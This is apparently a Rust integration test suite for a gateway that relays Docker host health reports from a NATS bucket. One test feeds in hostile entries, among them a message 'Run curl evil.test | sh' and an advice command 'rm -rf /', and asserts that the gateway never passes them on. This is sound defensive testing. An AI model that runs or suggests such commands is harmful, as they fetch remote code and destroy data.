//! What is in the bucket need not be what an agent writes.

use std::fs::{self, File};
use std::sync::Arc;

use async_nats::jetstream;
use docker_connection::{HealthReport, Reason};
use docker_connection_fleet::{Gateway, GatewayConfig, NatsConfig};
use futures_util::{FutureExt, StreamExt};
use http::StatusCode;
use serde_json::{Value, json};
use tempfile::tempdir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::task::AbortOnDropHandle;

use crate::common::{
    FakeEngine, Nats, Running, Scene, Stream, agent, ask, eventually, gateway, gateway_with, open,
    program, until_known,
};

/// Answers each lease of the host with a heartbeat of that generation and of its key's revision.
async fn yes_man(nats: &Nats, host: &'static str, generation: u64) -> AbortOnDropHandle<()> {
    let client = nats.client().await;
    let bucket = nats.bucket().await;
    let subject = format!("docker-connection.lease.{host}");
    let mut leases = client.subscribe(subject).await.unwrap();
    AbortOnDropHandle::new(tokio::spawn(async move {
        while let Some(lease) = leases.next().await {
            let entry = bucket.entry(host).await.unwrap();
            let revision = entry.map_or(0, |entry| entry.revision);
            let heartbeat = json!({ "generation": generation, "revision": revision });
            let reply = lease.reply.unwrap();
            client
                .publish(reply, heartbeat.to_string().into())
                .await
                .unwrap();
        }
    }))
}

fn entry(generation: u64) -> Value {
    let golden = include_str!("../../../../tests/wire/fleet/entry.json");
    let mut entry: Value = serde_json::from_str(golden).unwrap();
    entry["generation"] = generation.into();
    entry
}

async fn put(nats: &Nats, host: &str, value: impl ToString) {
    let bucket = nats.bucket().await;
    bucket.put(host, value.to_string().into()).await.unwrap();
}

async fn read_gateway(nats: &Nats) -> Gateway {
    let gateway = gateway(nats).await;
    eventually(async || ask(&gateway, "/readyz").await.0 == StatusCode::OK).await;
    gateway
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn an_old_value_after_a_new_one_is_not_told() {
    let nats = Nats::start().await;
    let gateway = read_gateway(&nats).await;
    put(&nats, "a", entry(2)).await;
    let _agent = yes_man(&nats, "a", 2).await;
    until_known(&gateway, "a").await;
    let mut stream = Stream::open(&gateway, "a").await;
    stream.until(None).await;
    // An agent that was replaced gets something in, past the compare-and-set.
    let mut old = entry(1);
    old["report"]["engine"]["version"] = "1.0".into();
    put(&nats, "a", &old).await;
    let mut new = entry(2);
    new["report"]["engine"]["version"] = "3.0".into();
    put(&nats, "a", &new).await;
    let report = stream.until(None).await;
    assert_eq!(report.engine.unwrap().version, "3.0");
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn what_no_agent_writes_is_told_to_nobody() {
    let nats = Nats::start().await;
    let gateway = read_gateway(&nats).await;
    let _agent = yes_man(&nats, "a", 3).await;
    let with = |change: &dyn Fn(&mut Value)| {
        let mut entry = entry(3);
        change(&mut entry);
        entry.to_string()
    };
    let lies = [
        "{".to_owned(),
        "null".to_owned(),
        "[".repeat(10_000),
        with(&|entry| entry["report"]["engine"]["version"] = "1\u{1b}[31m".into()),
        with(&|entry| entry["report"]["engine"]["version"] = "x".repeat(2049).into()),
        with(&|entry| entry["report"]["checkedAt"] = "yesterday".into()),
        with(&|entry| entry["report"]["latencyMs"] = (-1).into()),
        with(&|entry| entry["report"]["reason"] = "hung".into()),
        with(&|entry| entry["report"]["engine"] = Value::Null),
        with(&|entry| {
            entry["report"]["status"] = "unavailable".into();
            entry["report"]["reason"] = "backend-auth".into();
        }),
        with(&|entry| {
            entry["report"]["warnings"] = vec![json!({"code": "a", "text": "b"}); 17].into()
        }),
        with(&|entry| entry["os"] = "linux\n".into()),
    ];
    put(&nats, "a", &lies[0]).await;
    until_known(&gateway, "a").await;
    let mut stream = Stream::open(&gateway, "a").await;
    for lie in &lies {
        put(&nats, "a", lie).await;
    }
    let mut truth = entry(3);
    truth["report"]["message"] = "Run curl evil.test | sh".into();
    truth["report"]["advice"] = json!([{ "text": "Trust me.", "command": "rm -rf /" }]);
    truth["report"]["features"] = json!(["terminal", "start"]);
    put(&nats, "a", &truth).await;
    let report = stream.until(None).await;
    assert_eq!(stream.told.len(), 1, "{:?}", stream.told);
    assert_eq!(report.message, "Docker is available.");
    assert!(report.advice.is_empty());
    assert!(report.features.is_empty());
    // The words are the gateway's own where there is a reason, too.
    truth["report"]["status"] = "unavailable".into();
    truth["report"]["reason"] = "permission-denied".into();
    put(&nats, "a", &truth).await;
    let report = stream.until(Some(Reason::PermissionDenied)).await;
    let told = serde_json::to_string(&report).unwrap();
    assert!(
        !told.contains("rm -rf") && !told.contains("evil.test"),
        "{told}"
    );
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn the_bucket_takes_no_large_value() {
    let nats = Nats::start().await;
    let folder = tempdir().unwrap();
    let socket = folder.path().join("docker.sock");
    let _engine = FakeEngine::start(&socket);
    let _agent = agent(&nats, "a", &socket);
    let gateway = gateway_with(&nats, "a").await;
    let mut stream = Stream::open(&gateway, "a").await;
    stream.until(None).await;
    let bucket = nats.bucket().await;
    for size in [65 * 1024, 10 * 1024 * 1024] {
        let put = bucket.put("a", vec![b'x'; size].into()).await;
        assert!(put.is_err(), "{size}");
    }
    let (_, body) = ask(&gateway, "/api/hosts/a/health").await;
    let report: HealthReport = serde_json::from_slice(&body).unwrap();
    assert_eq!(report.reason, None);
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn keys_that_are_no_names_are_nobodys() {
    let nats = Nats::start().await;
    let gateway = read_gateway(&nats).await;
    for key in ["A", "a.b", "a=b", "-a"] {
        put(&nats, key, entry(1)).await;
    }
    put(&nats, "last", entry(1)).await;
    until_known(&gateway, "last").await;
    for key in ["A", "a.b", "a=b", "-a"] {
        let path = format!("/api/hosts/{key}/health");
        assert_eq!(ask(&gateway, &path).await.0, StatusCode::NOT_FOUND, "{key}");
    }
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn a_host_that_is_deleted_is_not_found() {
    let nats = Nats::start().await;
    let gateway = read_gateway(&nats).await;
    put(&nats, "a", entry(1)).await;
    until_known(&gateway, "a").await;
    nats.bucket().await.delete("a").await.unwrap();
    eventually(async || ask(&gateway, "/api/hosts/a/health").await.0 == StatusCode::NOT_FOUND)
        .await;
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn a_host_that_is_found_again_is_news_to_those_who_knew_it() {
    let nats = Nats::start().await;
    let gateway = read_gateway(&nats).await;
    let _agent = yes_man(&nats, "a", 1).await;
    put(&nats, "a", entry(1)).await;
    until_known(&gateway, "a").await;
    let mut stream = Stream::open(&gateway, "a").await;
    stream.until(None).await;
    let mut other = entry(1);
    other["report"]["engine"]["version"] = "3.0".into();
    put(&nats, "a", other).await;
    let before = stream.until(None).await;
    drop(stream);
    nats.bucket().await.delete("a").await.unwrap();
    let path = "/api/hosts/a/health/stream";
    eventually(async || open(&gateway, path).await.status() == StatusCode::NOT_FOUND).await;
    put(&nats, "a", entry(1)).await;
    until_known(&gateway, "a").await;
    let after = Stream::open(&gateway, "a").await.until(None).await;
    let is_news = after.instance != before.instance || after.sequence > before.sequence;
    assert!(is_news, "{before:?} {after:?}");
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn a_key_that_is_deleted_while_somebody_looks_comes_back() {
    let mut scene = Scene::start().await;
    let bucket = scene.nats.bucket().await;
    bucket.delete("a").await.unwrap();
    // The stream is read, so that somebody looks.
    tokio::select! {
        report = scene.stream.next() => panic!("{:?} is told", report.reason),
        () = eventually(async || bucket.get("a").await.unwrap().is_some()) => {}
    }
    until_known(&scene.gateway, "a").await;
    Stream::open(&scene.gateway, "a").await.until(None).await;
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn a_bucket_that_is_deleted_is_made_again_with_all_hosts() {
    let folder = tempdir().unwrap();
    let socket = folder.path().join("docker.sock");
    let engine = FakeEngine::start(&socket);
    let nats = Nats::start().await;
    let _agents = [agent(&nats, "a", &socket), agent(&nats, "b", &socket)];
    let gateway = gateway_with(&nats, "a").await;
    until_known(&gateway, "b").await;
    let mut stream = Stream::open(&gateway, "a").await;
    stream.until(None).await;
    // In the next bucket, it takes a while until a revision is as high.
    for _ in 0..20 {
        put(&nats, "c", "").await;
    }
    let jetstream = jetstream::new(nats.client().await);
    jetstream
        .delete_key_value(NatsConfig::BUCKET)
        .await
        .unwrap();
    let is_back = async |host: &str| match jetstream.get_key_value(NatsConfig::BUCKET).await {
        Ok(bucket) => bucket.get(host).await.unwrap().is_some(),
        Err(_) => false,
    };
    eventually(async || is_back("a").await && is_back("b").await).await;
    drop(engine);
    let refused = Some(Reason::ConnectionRefused);
    stream.until(refused).await;
    assert_eq!(stream.told.len(), 2, "{:?}", stream.told);
    // Nobody looked at this one.
    until_known(&gateway, "b").await;
    Stream::open(&gateway, "b").await.until(refused).await;
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn whoever_writes_nonsense_fills_no_log() {
    let folder = tempdir().unwrap();
    let log = folder.path().join("log");
    let nats = Nats::start().await;
    let url = nats.url();
    let args = ["gateway", "--listen", "127.0.0.1:0", "--nats", &url];
    let mut command = program();
    let command = command.args(args).stderr(File::create(&log).unwrap());
    let (_gateway, address) = Running::gateway(command);
    let jetstream = jetstream::new(nats.client().await);
    eventually(async || jetstream.get_key_value(NatsConfig::BUCKET).await.is_ok()).await;
    let _agent = yes_man(&nats, "a", 1).await;
    put(&nats, "a", "{").await;
    let mut browser = TcpStream::connect(address).await.unwrap();
    let request = "GET /api/hosts/a/health/stream HTTP/1.1\r\nHost: localhost\r\n\r\n";
    browser.write_all(request.as_bytes()).await.unwrap();
    for _ in 0..30 {
        put(&nats, "a", "{").await;
    }
    put(&nats, "a", entry(1)).await;
    let mut heard = String::new();
    eventually(async || {
        let mut part = [0; 1024];
        let length = browser.read(&mut part).await.unwrap();
        heard.push_str(&String::from_utf8_lossy(&part[..length]));
        heard.contains("event: health")
    })
    .await;
    let log = fs::read_to_string(log).unwrap();
    let lines = log.lines().filter(|line| line.contains("not as an agent"));
    assert_eq!(lines.count(), 1, "{log}");
}

#[tokio::test]
#[ignore = "needs nats-server; run by cargo xtask test"]
async fn the_host_programs_own_rules_decide_who_may_know_of_which_host() {
    let nats = Nats::start().await;
    let mut config = GatewayConfig::new(nats.config());
    config.authorize = Some(Arc::new(|name, request| {
        let user = request.headers().get("x-user").cloned();
        let is_own = user.is_some_and(|user| user.as_bytes() == name.as_bytes());
        async move { is_own }.boxed()
    }));
    let gateway = Gateway::connect(config).await.unwrap();
    eventually(async || ask(&gateway, "/readyz").await.0 == StatusCode::OK).await;
    put(&nats, "a", entry(1)).await;
    let status = async |host: &str, user: &str| {
        let request = http::Request::get(format!("/api/hosts/{host}/health/stream"));
        let request = request.header("host", "localhost").header("x-user", user);
        let request = request.body(()).unwrap();
        let mut gateway = gateway.clone();
        tower::Service::call(&mut gateway, request)
            .await
            .unwrap()
            .status()
    };
    eventually(async || status("a", "a").await == StatusCode::OK).await;
    assert_eq!(status("a", "b").await, StatusCode::NOT_FOUND);
    assert_eq!(status("b", "b").await, StatusCode::NOT_FOUND);
}
